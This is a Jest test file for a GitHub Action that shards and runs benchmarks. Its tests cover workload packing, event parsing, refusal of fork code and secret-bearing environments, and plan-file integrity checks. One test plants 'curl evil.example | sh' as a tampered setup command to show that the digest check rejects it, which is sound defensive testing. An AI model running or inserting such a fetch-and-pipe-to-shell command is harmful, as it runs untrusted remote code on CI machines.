/** The small pieces behind the actions: packing, targets, privileges, names. */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from '@jest/globals'
import * as fc from 'fast-check'
import { silentLogger } from '../../src/core/logger.ts'
import { privilegesOf, refusePrivileges } from '../../src/entrypoints/action/privileges.ts'
import { locateShards } from '../../src/entrypoints/action/shard-folders.ts'
import { tasksArtifact } from '../../src/entrypoints/action/shard-names.ts'
import { DEFAULT_CONFIG } from '../../src/config/config.ts'
import { planDigest, readPlan, writePlan } from '../../src/entrypoints/action/plan-file.ts'
import { emptyPlan } from '../../src/entrypoints/action/planning.ts'
import { packParts } from '../../src/entrypoints/action/shards.ts'
import { readPurpose } from '../../src/entrypoints/action/targets.ts'
import type { Surroundings } from '../../src/entrypoints/action/surroundings.ts'
import { growsLinearly } from '../growth.ts'

describe('packParts, of candidates that nobody splits', () => {
  const packed = (candidates: readonly { readonly weight: number }[], most: number): readonly number[] =>
    packParts(
      candidates.map((candidate) => [candidate]),
      most,
    ).map(([shard]) => shard ?? -1)
  const work = fc.array(
    fc.integer({ min: 1, max: 1000 }).map((weight) => ({ weight })),
    { maxLength: 300 },
  )

  test('every candidate in one shard, no shard empty, no more shards than allowed, none far over the mean', () => {
    fc.assert(
      fc.property(work, fc.integer({ min: 1, max: 256 }), (candidates, most) => {
        const shards = packed(candidates, most)
        expect(shards).toHaveLength(candidates.length)
        const load = new Map<number, number>()
        for (const [index, shard] of shards.entries())
          load.set(shard, (load.get(shard) ?? 0) + (candidates[index]?.weight ?? 0))
        expect(load.size).toBe(Math.min(most, candidates.length))
        const total = candidates.reduce((sum, { weight }) => sum + weight, 0)
        const heaviest = Math.max(0, ...candidates.map(({ weight }) => weight))
        expect(Math.max(0, ...load.values())).toBeLessThanOrEqual(total / Math.max(1, load.size) + heaviest)
      }),
    )
  })

  test('the cost of packing grows with the number of candidates', () => {
    const candidates = (size: number) => Array.from({ length: size }, (_, weight) => ({ weight }))
    expect(growsLinearly((size) => packed(candidates(size), 256), 8000)).toBe(true)
  })
})

describe('readPurpose', () => {
  const sha = (digit: string): string => digit.repeat(40)
  const repository = { full_name: 'acme/price-tag', default_branch: 'main' }
  const pull = (more: object): object => ({
    number: 7,
    user: { login: 'dana', type: 'User' },
    head: { ref: 'topic', sha: sha('b'), repo: { full_name: 'acme/price-tag' } },
    base: { ref: 'main', sha: sha('a') },
    ...more,
  })
  const surroundings = (name: string, payload: object): Surroundings => ({
    repository: { owner: 'acme', repo: 'price-tag' },
    event: {
      name,
      payload: JSON.parse(JSON.stringify({ repository, ...payload })) as Surroundings['event']['payload'],
    },
    defaultBranch: 'main',
    apiUrl: 'https://api.github.com',
    serverUrl: 'https://github.com',
    runId: '1',
    attempt: '1',
    workspace: '/w',
    temp: '/t',
  })
  const now = new Date('2026-03-08T00:00:00Z')
  const commits = [
    { id: sha('c'), message: 'one' },
    { id: sha('d'), message: 'two' },
  ]

  test.each([
    ['pull_request', { action: 'opened', pull_request: pull({}) }, { kind: 'review', number: 7 }],
    [
      'pull_request',
      { action: 'closed', pull_request: pull({ merged: true, merge_commit_sha: sha('c') }) },
      { kind: 'benchmark', targets: { kind: 'pull-request', number: 7 } },
    ],
    ['pull_request', { action: 'closed', pull_request: pull({ merged: false }) }, { kind: 'nothing' }],
    [
      'push',
      { ref: 'refs/heads/main', before: sha('a'), after: sha('d'), commits },
      { kind: 'benchmark', targets: { kind: 'commits', shas: [sha('d'), sha('c')], branch: 'main' } },
    ],
    ['push', { ref: 'refs/heads/topic', before: sha('a'), after: sha('d'), commits }, { kind: 'nothing' }],
    [
      'schedule',
      {},
      { kind: 'benchmark', targets: { kind: 'sweep', branch: 'main', since: '2026-03-01T00:00:00.000Z' } },
    ],
    ['workflow_dispatch', { inputs: { 'pr-number': '12' } }, { kind: 'either', number: 12 }],
    ['release', {}, { kind: 'nothing' }],
  ])('%s %j', (name, payload, expected) => {
    expect(readPurpose(surroundings(name, payload), now)).toMatchObject(expected)
  })

  test('foreign code under an event with rights is refused', () => {
    const fork = pull({ head: { ref: 'topic', sha: sha('b'), repo: { full_name: 'mallory/price-tag' } } })
    expect(() =>
      readPurpose(surroundings('pull_request_target', { action: 'opened', pull_request: fork }), now),
    ).toThrow('mallory/price-tag')
  })
})

describe('privileges', () => {
  test.each([
    [{}, []],
    [{ GITHUB_TOKEN: '', PATH: '/bin' }, []],
    [{ ACTIONS_ID_TOKEN_REQUEST_URL: 'https://x' }, ['the permission `id-token: write`']],
    [{ GITHUB_TOKEN: 'a', OPENAI_API_KEY: 'b' }, ['the variable GITHUB_TOKEN', 'the variable OPENAI_API_KEY']],
  ])('%j', (env, expected) => {
    expect(privilegesOf(env)).toEqual(expected)
    const refuse = (): void => refusePrivileges(env, { allowed: false, logger: silentLogger })
    if (expected.length === 0) expect(refuse).not.toThrow()
    else expect(refuse).toThrow("run the repository's tests")
  })
})

test('names of artifacts hold no character that artifacts forbid', () => {
  fc.assert(
    fc.property(fc.array(fc.string(), { maxLength: 3 }), fc.string(), (ids, attempt) => {
      const name = tasksArtifact(ids, attempt)
      expect(name).toMatch(/^backtest-[A-Za-z0-9._-]+$/)
      expect(name.length).toBeLessThan(256)
    }),
  )
})

describe('the plan as an artifact', () => {
  const plan = emptyPlan({ owner: 'acme', repo: 'tool' }, DEFAULT_CONFIG)
  const written = async (): Promise<{ file: string; digest: string }> => {
    const file = join(mkdtempSync(join(tmpdir(), 'backtest-plan-')), 'plan.json')
    return { file, digest: await writePlan(file, plan) }
  }

  test('is read back when it is the one that was written', async () => {
    const { file, digest } = await written()
    expect(await readPlan(file, digest)).toEqual(plan)
    expect(planDigest(await readPlan(file, undefined))).toBe(digest)
  })

  test('another one in its place is refused, though it is a plan', async () => {
    const { file, digest } = await written()
    await writePlan(file, { ...plan, config: { ...plan.config, 'setup-command': 'curl evil.example | sh' } })
    await expect(readPlan(file, digest)).rejects.toThrow(/is not what the plan job wrote/)
  })
})

describe('locateShards', () => {
  const PLAN = 'a'.repeat(64)
  const shardFile = (shard: string, plan = PLAN): string =>
    JSON.stringify({ schema: 'backtest/shard@1', shard, plan_sha256: plan, finished: [], failed: [] })
  const laidOut = (files: Readonly<Record<string, string>>): string => {
    const root = mkdtempSync(join(tmpdir(), 'backtest-shards-'))
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(root, path, '..'), { recursive: true })
      writeFileSync(join(root, path), text)
    }
    return root
  }

  test('several artifacts lie in a folder each; the name of the folder counts, not what stands in it', async () => {
    const root = laidOut({
      'backtest-results-s1/shard.json': shardFile('s2'),
      'backtest-results-s2/shard.json': shardFile('s1'),
      'backtest-results-s9/x': '',
    })
    const { folders, problems } = await locateShards(root, ['s1', 's2', 's3'], PLAN)
    expect([...folders]).toEqual([
      ['s1', join(root, 'backtest-results-s1')],
      ['s2', join(root, 'backtest-results-s2')],
    ])
    expect(problems).toEqual(['nobody planned "backtest-results-s9"'])
  })

  test('one that came twice, and one of another plan, are named', async () => {
    const root = laidOut({
      'backtest-results-s1/shard.json': shardFile('s1'),
      'backtest-results-s1-attempt-2/shard.json': shardFile('s1'),
      'backtest-results-s2/shard.json': shardFile('s2', 'b'.repeat(64)),
    })
    const { folders, problems } = await locateShards(root, ['s1', 's2'], PLAN)
    expect([...folders.keys()]).toEqual(['s1'])
    expect(problems).toEqual([
      '"backtest-results-s1-attempt-2" is a second result of shard s1; the artifact named after the shard counts',
      'the results of shard s2 are of another plan: they came late, or from another run',
    ])
  })

  test('a single one lies in the folder itself', async () => {
    const root = laidOut({ 'shard.json': shardFile('s2'), 'c3/curation.json': '{}' })
    expect([...(await locateShards(root, ['s1', 's2'], PLAN)).folders]).toEqual([['s2', root]])
  })

  test.each([
    [{ 'shard.json': shardFile('s7') }, 'nobody planned the shard "s7"'],
    [{ 'shard.json': '{' }, 'the results folder holds no shard'],
    [{}, 'no results were downloaded'],
  ])('%j', async (files, problem) => {
    const { folders, problems } = await locateShards(laidOut(files), ['s1'], PLAN)
    expect(folders.size).toBe(0)
    expect(problems).toEqual([problem])
  })
})
